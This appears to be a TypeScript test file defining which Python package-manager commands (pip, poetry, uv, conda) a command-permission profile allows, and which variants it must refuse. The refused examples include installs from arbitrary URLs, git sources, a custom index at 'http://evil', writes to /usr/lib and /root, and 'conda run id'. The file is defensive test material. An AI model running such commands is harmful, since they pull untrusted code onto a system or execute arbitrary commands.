import { describeProfiles } from '../../testing/describe-profiles.ts'

describeProfiles('python-packages', {
  reads: ['pip list', 'pip show requests', 'pip freeze', 'pip --version', 'pip3 list', 'conda list'],
  granted: {
    'pip install': [
      'pip install requests',
      'pip install -r requirements.txt',
      'pip install -e .',
      "pip install -e '.[dev]'",
    ],
    'pip3 install': ["pip3 install 'requests>=2'"],
    'poetry install': ['poetry install'],
    'uv sync': ['uv sync'],
    'poetry run pytest': ['poetry run pytest -q'],
  },
  riders: {
    'pip install': [
      'pip install git+https://e',
      'pip install --index-url https://e x',
      'pip install -i https://e x',
      'pip install https://e/x.whl',
      'pip install /tmp/x',
      'pip install -r https://x.example/r.txt',
      'pip install -i http://evil x',
      'pip install --target /usr/lib x',
      'pip install x @ https://e',
    ],
    'pip download': ['pip download -d /root x'],
    pip: ['pip config set x y'],
    'uv pip': ['uv pip install evil --index-url http://x'],
    conda: ['conda run id'],
  },
})
